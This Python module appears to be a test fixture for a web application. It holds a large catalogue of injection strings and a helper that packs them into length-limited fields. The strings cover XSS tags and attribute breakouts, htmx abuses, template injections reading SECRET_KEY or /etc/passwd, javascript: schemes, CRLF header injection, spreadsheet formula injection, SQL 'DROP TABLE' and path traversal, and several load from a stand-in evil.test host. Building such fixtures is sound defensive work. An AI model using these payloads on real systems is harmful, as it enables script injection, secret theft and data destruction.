"""Texts that try to be more than text on a page: every one that runs calls `pwn()` or asks `evil.test`.

`VECTORS` are short, so that several fit into a name; `packed` fills fields of a given length with them all.
Those that swallow what follows (an open comment, a `<plaintext>`) come last in whatever they are packed into.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Final

ELEMENTS: Final = (
    "<script>pwn()</script>",
    "<SCRIPT>pwn()</SCRIPT>",
    "<script >pwn()</script >",
    "<script/x>pwn()</script>",
    "<script\n>pwn()</script>",
    "<script src=//evil.test/1></script>",
    "<script src=data:,pwn()></script>",
    "<script type=module>pwn()</script>",
    "<scr<script>ipt>pwn()</script>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=data:,pwn() />",
    "<math><script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<IMG SRC=x ONERROR=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<img src=x onerror='pwn()'>",
    '<img src=x onerror="pwn()">',
    "<img src=x onerror=pwn`1`>",
    "<img src=//evil.test/2>",
    "<img srcset=//evil.test/3>",
    "<image src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg\tonload=pwn()>",
    "<svg><animate onbegin=pwn()>",
    "<svg><set onbegin=pwn()>",
    "<svg><image href=//evil.test/4>",
    "<svg><use href=//evil.test/5#a>",
    "<svg><style>@import'//evil.test/6'</style>",
    "<svg><a href=javascript:pwn()>x</a>",
    "<svg><foreignObject><img src=x onerror=pwn()>",
    "<body onload=pwn()>",
    "<iframe src=javascript:pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<iframe src=//evil.test/7>",
    "<object data=//evil.test/8>",
    "<object data=javascript:pwn()>",
    "<embed src=//evil.test/9>",
    "<embed src=javascript:pwn()>",
    "<video src=x onerror=pwn()>",
    "<video poster=//evil.test/10>",
    "<video><source onerror=pwn()>",
    "<audio src=x onerror=pwn()>",
    "<audio src=//evil.test/11 autoplay>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<textarea autofocus onfocus=pwn()>",
    "<button popovertarget=x onclick=pwn()>",
    "<details open ontoggle=pwn()>",
    "<dialog open onclose=pwn()>",
    "<marquee onstart=pwn()>",
    "<a autofocus tabindex=1 onfocus=pwn()>x",
    "<p onmouseover=pwn()>x</p>",
    "<p onanimationstart=pwn()>x",
    "<link rel=stylesheet href=//evil.test/12>",
    "<link rel=preload as=image href=//evil.test/13>",
    "<link rel=icon href=//evil.test/14>",
    "<link rel=prefetch href=//evil.test/15>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;//evil.test/16>",
    "<meta http-equiv=refresh content=0;javascript:pwn()>",
    "<form action=//evil.test/17><button autofocus>x",
    "<form><button formaction=javascript:pwn()>x",
    "<style>@import'//evil.test/18';</style>",
    "<style>*{background:url(//evil.test/19)}</style>",
    "<p style=background:url(//evil.test/20)>x",
    "<p style=position:fixed;inset:0;z-index:99>x",
    "<table background=//evil.test/21>",
    "<track src=//evil.test/22>",
    "<portal src=//evil.test/23>",
    "<template shadowrootmode=open><img src=x onerror=pwn()>",
    "<slot onslotchange=pwn()>",
    "<isindex onfocus=pwn() autofocus>",
    "<frameset onload=pwn()>",
    "<math href=javascript:pwn()>x",
    "<xss contenteditable autofocus onfocus=pwn()>",
)

ATTRIBUTES: Final = (
    '"><script>pwn()</script>',
    "'><script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    '" onmouseover="pwn()',
    "' onmouseover='pwn()",
    '" autofocus onfocus="pwn()',
    "' autofocus onfocus='pwn()",
    "x onfocus=pwn() autofocus ",
    "` onfocus=pwn() autofocus `",
    '" style="background:url(//evil.test/24)',
    '" src="//evil.test/25',
    '" href="javascript:pwn()',
    '"/><svg/onload=pwn()>',
    "</a><img src=x onerror=pwn()>",
    "</td></tr></table><img src=x onerror=pwn()>",
    "</option></select><img src=x onerror=pwn()>",
    "</button></form><img src=x onerror=pwn()>",
    "</textarea><img src=x onerror=pwn()>",
    "</title><img src=x onerror=pwn()>",
    "</style><img src=x onerror=pwn()>",
    "</pre></code><img src=x onerror=pwn()>",
    "</svg><img src=x onerror=pwn()>",
    "</template><img src=x onerror=pwn()>",
    "</dialog><img src=x onerror=pwn()>",
    "</body></html><img src=x onerror=pwn()>",
    "]]><img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()>",
    "&quot;&gt;&lt;img src=x onerror=pwn()&gt;",
    "&#34;&#62;&#60;img src=x onerror=pwn()&#62;",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=pwn()%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=pwn()\\x3e",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
)

HTMX: Final = (
    "<p hx-get=//evil.test/26 hx-trigger=load>",
    "<p hx-get=/live/ hx-trigger=load hx-on::before-request=pwn()>",
    "<p hx-on:htmx:load=pwn()>",
    "<p hx-on::load=pwn()>",
    "<p hx-on='load -> pwn()'>",
    "<p data-hx-get=//evil.test/27 data-hx-trigger=load>",
    "<p hx-trigger='load[pwn()]' hx-get=/live/>",
    "<p hx-vals='js:{a:pwn()}' hx-get=/live/ hx-trigger=load>",
    "<p hx-headers='js:{a:pwn()}' hx-get=/live/ hx-trigger=load>",
    "<p hx-get=javascript:pwn() hx-trigger=load>",
    "<p hx-post=/queue/next/ hx-trigger=load>",
    "<form hx-post=//evil.test/28 hx-trigger=load>",
    "<p hx-swap-oob=true id=main>x",
    "<p hx-ext=evil>x",
    "<hx-partial hx-target=body><img src=x onerror=pwn()></hx-partial>",
    '" hx-get="//evil.test/29" hx-trigger="load',
    "' hx-get='//evil.test/30' hx-trigger='load",
    '" hx-on::load="pwn()',
    '" data-hx-trigger="every 1ms" hx-get="//evil.test/31',
    '" data-opens="palette" data-dialog="',
    '" data-copy="pwn()" autofocus="',
    '" data-leave="//evil.test/32',
    '" data-live="//evil.test/33',
    "<p data-leave=//evil.test/34>",
    "<section data-unanswered><script>pwn()</script>",
)

TEMPLATES: Final = (
    "{{ settings.SECRET_KEY }}",
    "{{ request.session }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% load recourse %}{% icon 'x' %}",
    "{{ x|safe }}<img src=x onerror=pwn()>",
    "{# <img src=x onerror=pwn()> #}",
    "{% autoescape off %}<b>{% endautoescape %}",
    "${pwn()}",
    "#{pwn()}",
    "<%= pwn() %>",
    "{{constructor.constructor('pwn()')()}}",
    "{{'a'.constructor.prototype.charAt=[].join}}",
    "%s%s%s%n%(secret)s",
    "{0.__class__.__init__.__globals__}",
    "{self.__class__}",
)

SCHEMES: Final = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    " javascript:pwn()",
    "\x01javascript:pwn()",
    "javascript://%0apwn()",
    "javascript&colon;pwn()",
    "&#106;avascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "blob:null/pwn()",
    "view-source:javascript:pwn()",
    "//evil.test/35",
    "https://evil.test/36",
    "\\\\evil.test\\37",
    "https:evil.test/38",
    "[x](javascript:pwn())",
    "![x](//evil.test/39)",
    "<javascript:pwn()>",
)

SCRIPTS: Final = (
    '"};pwn();//',
    "'};pwn();//",
    '"]};pwn()//',
    "\\';pwn();//",
    '\\";pwn();//',
    "</script><script>pwn()</script>",
    "</ScRiPt ><svg/onload=pwn()>",
    '{"a":"</script><script>pwn()</script>"}',
    "\u2028pwn()\u2029",
    "';pwn()//\\';pwn()//\";pwn()//",
    "*/pwn()/*",
    "`;pwn();`",
    '{"__proto__":{"pwn":1}}',
    '{"constructor":{"prototype":{}}}',
    "__proto__",
    "toString",
    "isTrusted",
    "__html",
)

DECEIT: Final = (
    "\u202egnp.exe",
    "\u2066\u2067x\u2069\u2069",
    "a\u200bb\u200c\u200d\u2060",
    "\ufeff\ufefftext",
    "\U000e0041\U000e0042hidden",
    "x\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\u034f\u115f\u3164",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;//evil.test/40\x07x\x1b]8;;\x07",
    "\x1b]0;pwn\x07",
    "\x9b31m",
    "\r\nSet-Cookie: pwn=1",
    "\r\n\r\n<script>pwn()</script>",
    "a\x08\x08\x08b\x7f",
    "null\u2400byte",
    "\ufffd\ufffe\uffff",
    "\u0430\u0440\u0440\u04cf\u0435.com",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("//evil.test/41")',
    "+1+pwn()",
    "-1+pwn()",
    "@SUM(1+1)*pwn()",
    "\t=1+1",
    "' OR 1=1; DROP TABLE runs_run;--",
    "../../../../etc/passwd",
)

# Whatever is behind one of these in the same field would be swallowed by it.
SWALLOWERS: Final = (
    "<!--<img src=x onerror=pwn()>",
    "<!--><img src=x onerror=pwn()>-->",
    "<plaintext>",
    "<title><img src=x onerror=pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<xmp><img src=x onerror=pwn()>",
    "<style><img src=x onerror=pwn()>",
    "<select><template><img src=x onerror=pwn()>",
)

VECTORS: Final = (
    *ELEMENTS,
    *ATTRIBUTES,
    *HTMX,
    *TEMPLATES,
    *SCHEMES,
    *SCRIPTS,
    *DECEIT,
    *SWALLOWERS,
)


def packed(length_max: int, vectors: Sequence[str] = VECTORS) -> list[str]:
    """Texts of at most this many characters that together hold every vector that is no longer itself."""
    packs: list[list[str]] = []
    for vector in _spread(vectors):
        if len(vector) > length_max:
            continue
        home = next((one for one in packs if _fits(one, vector, length_max)), None)
        if home is None:
            packs.append([vector])
        elif vector in SWALLOWERS:
            home.append(vector)
        else:
            home.insert(0, vector)
    return [" ".join(one) for one in packs]


def _spread(vectors: Sequence[str]) -> Iterator[str]:
    """The longest first: so few texts hold them all."""
    yield from sorted(vectors, key=len, reverse=True)


def _fits(pack: Sequence[str], vector: str, length_max: int) -> bool:
    if vector in SWALLOWERS and any(one in SWALLOWERS for one in pack):
        return False
    return sum(len(one) + 1 for one in pack) + len(vector) <= length_max
